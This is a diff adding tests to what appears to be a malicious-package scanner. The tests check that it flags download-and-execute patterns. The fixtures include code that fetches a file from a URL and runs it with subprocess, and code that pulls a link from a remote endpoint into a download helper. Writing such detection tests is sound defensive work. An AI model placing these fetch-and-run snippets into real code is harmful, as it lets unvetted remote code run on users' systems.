@@ -589,3 +589,31 @@ def test_a_preload_helper_the_package_runs_on_import_stays_serious():
     result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/preload.py": PRELOAD})
     assert any(f.severity == "critical" for f in found(result, "intent.download-execute"))
     assert result.verdict == "malicious"
+
+
+def test_a_program_downloaded_from_a_url_parameter_and_started_stays_serious():
+    src = """
+        import subprocess
+        import urllib.request
+
+        def fetch_tool(url, dest):
+            urllib.request.urlretrieve(url, dest)
+            subprocess.run([dest], check=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
+
+
+def test_a_preload_helper_the_module_feeds_a_fetched_url_stays_serious():
+    src = (
+        PRELOAD
+        + """
+    def refresh():
+        link = urllib.request.urlopen("https://api.example.net/latest").read().decode()
+        return download_module(link)
+    """
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/preload.py": src})
+    assert any(f.severity == "high" for f in found(result, "intent.download-execute"))
+    assert result.verdict in FLAGGED
